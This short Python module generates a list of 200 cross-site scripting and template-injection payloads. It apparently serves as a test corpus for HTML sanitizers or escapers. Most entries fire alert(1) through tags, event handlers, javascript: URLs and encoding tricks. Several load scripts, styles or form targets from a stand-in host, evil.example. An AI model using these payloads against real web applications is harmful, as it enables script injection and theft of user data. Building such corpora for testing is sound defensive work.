"""Two hundred ways in which text tries to become markup."""

from __future__ import annotations

CALL = "alert(1)"
TAGS = (
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><script>{}</script></svg>", "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>", "<a href='javascript:{}'>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>",
    "<object data='javascript:{}'>", "<embed src='javascript:{}'>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0>",
    "<style>*{{background:url(//evil.example)}}</style>", "<form action=//evil.example><button>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src onerror={}>'>",
)  # fmt: skip
ESCAPES = (
    "{}", "\"'>{}", "'>{}", "\">{}", "</title>{}", "</textarea>{}", "</script>{}", "--><!--{}",
    "]]>{}", "</svg>{}",
)  # fmt: skip
OTHERS = (
    "{{7*7}}", "${7*7}", "{% raw %}{{ site.token }}", "{{ site.token }}", "#{7*7}",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
    "java\tscript:alert(1)", "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)",
    "`onmouseover=alert(1)`", "\u202e<script>alert(1)</script>", "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)",
    "&#x3c;script&#x3e;", "\\u003cscript\\u003e", "<ſcript>alert(1)</ſcript>",
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*OTHERS, *(e.format(t.format(CALL)) for e in ESCAPES for t in TAGS)])
)[:200]
